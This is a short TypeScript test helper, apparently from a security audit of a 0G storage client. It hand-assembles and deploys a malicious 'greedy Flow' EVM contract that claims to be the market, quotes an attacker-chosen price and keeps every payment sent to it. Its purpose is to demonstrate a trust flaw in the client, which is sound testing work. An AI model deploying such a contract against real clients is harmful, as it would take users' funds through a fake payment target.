/**
 * The audit's hostile Flow: `market()` returns the contract itself, `pricePerSector()` a price of our choosing, and
 * every other call (`submit` included) succeeds and keeps whatever value it was sent. A client that takes its Flow
 * from the storage nodes pays this contract. Hand-assembled EVM (no compiler needed for 80 bytes).
 */
import { minedReceipt } from "@0g-compute/contracts/node"
import { ContractFactory, type Signer, type TransactionResponse } from "ethers"

const MARKET_SELECTOR = "80f55605" // market()
const PRICE_SELECTOR = "61ec5082" // pricePerSector()

const hex = (n: number) => n.toString(16).padStart(2, "0")

/** Runtime: dispatch on the selector; unknown selectors (and plain transfers) STOP, keeping the value. */
const runtime = (price: bigint): string => {
  const returnWord = "6000526020" + "6000f3" // MSTORE at 0, RETURN 32 bytes from 0
  const dispatch = (marketAt: number, priceAt: number) =>
    "600035" + // PUSH1 0 CALLDATALOAD
    "60e01c" + // PUSH1 224 SHR → selector
    "80" + // DUP1
    `63${MARKET_SELECTOR}14` + // PUSH4 market() EQ
    `60${hex(marketAt)}57` + // PUSH1 marketAt JUMPI
    `63${PRICE_SELECTOR}14` + // PUSH4 pricePerSector() EQ
    `60${hex(priceAt)}57` + // PUSH1 priceAt JUMPI
    "00" // STOP
  const head = dispatch(0, 0).length / 2
  const marketBlock = `5b30${returnWord}` // JUMPDEST ADDRESS …
  const priceBlock = `5b7f${price.toString(16).padStart(64, "0")}${returnWord}` // JUMPDEST PUSH32 price …
  return dispatch(head, head + marketBlock.length / 2) + marketBlock + priceBlock
}

/** Init code that returns `code` as the runtime. */
const creation = (code: string): string => {
  const length = code.length / 2
  // PUSH1 len DUP1 PUSH1 offset PUSH1 0 CODECOPY PUSH1 0 RETURN (11 bytes)
  return `0x60${hex(length)}80600b6000396000f3${code}`
}

/** Deploys the hostile Flow and returns its address. */
export const deployGreedyFlow = async (signer: Signer, pricePerSector: bigint): Promise<string> => {
  const contract = await new ContractFactory([], creation(runtime(pricePerSector)), signer).deploy()
  await minedReceipt(contract.deploymentTransaction() as TransactionResponse, "greedy Flow deployment")
  return contract.getAddress()
}
